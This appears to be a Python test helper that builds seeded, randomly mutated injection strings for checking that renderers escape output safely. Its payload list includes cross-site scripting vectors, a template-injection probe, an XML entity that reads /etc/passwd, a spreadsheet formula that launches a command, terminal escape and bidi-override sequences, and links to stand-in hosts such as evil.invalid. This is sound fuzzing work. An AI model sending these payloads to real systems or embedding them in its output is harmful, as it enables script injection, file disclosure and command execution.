"""Texts that try to come alive in whatever shows them: a seed gives one, always the same."""

import random

DEED = "window.live=1;document.title='taken';alert(1)"
CORES = (
    f"<script>{DEED}</script>",
    f'<img src=x onerror="{DEED}">',
    f"<svg onload={DEED}>",
    f"<svg><use href='data:image/svg+xml,<svg onload={DEED}>'/></svg>",
    f'<iframe srcdoc="<script>{DEED}</script>"></iframe>',
    f"<details open ontoggle={DEED}>",
    "<style>@import 'http://127.0.0.1:9/x'; body { background: url(http://127.0.0.1:9/y) }</style>",
    "<base href=//evil.invalid><form action=//evil.invalid><input autofocus onfocus=alert(1)></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet href=http://127.0.0.1:9/z>",
    f"javascript:{DEED}",
    f"data:text/html,<script>{DEED}</script>",
    f"&lt;script&gt;{DEED}&lt;/script&gt;",
    f"{{{{ ''.__class__.__mro__ }}}}{{% for x in () %}}<script>{DEED}</script>",
    "[red]taken[/red] [link=http://evil.invalid]click[/link] [/]",
    "![x](http://127.0.0.1:9/p.png) [a](javascript:alert(1)) <b>bold</b> | cell | `code` @everyone #1",
    "\x1b[31mred\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07\x1b[2J\x9b1m\x07\x08\x7f",
    "\u202eetteK\u202c \u2066a\u2069 \u200f\u061c",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'><![CDATA[&x;",
    "\x00\ufffe\uffff\ud800\udfff",
    "::error file=a,line=1::taken\n::set-output name=x::y",
    "=cmd|' /C calc'!A0",
    "\u2028\u2029\r\n\t",
)  # fmt: skip
BREAKERS = (
    *("", '"', "'", ">", "-->", "</title>", "</textarea>", "</style>", "</script>", "</svg>"),
    *("]]>", "`", '"/>', "\\", "%3C", "\x00<"),
)


def payload(dice: random.Random) -> str:
    """One text: ways out of where it may stand, then what wants to live, broken up or not."""
    out = "".join(dice.choices(BREAKERS, k=dice.randint(0, 3)))
    core = dice.choice(CORES)
    if dice.random() < 0.2:
        core = core.swapcase()
    if dice.random() < 0.2:
        at = dice.randrange(len(core))
        core = core[:at] + dice.choice("\t\n\x00\u200b/") + core[at:]
    return out + core + dice.choice(["", "", out, "x" * 300])


def payloads(seed: int, count: int) -> list[str]:
    """So many of one seed."""
    dice = random.Random(seed)
    return [payload(dice) for _ in range(count)]
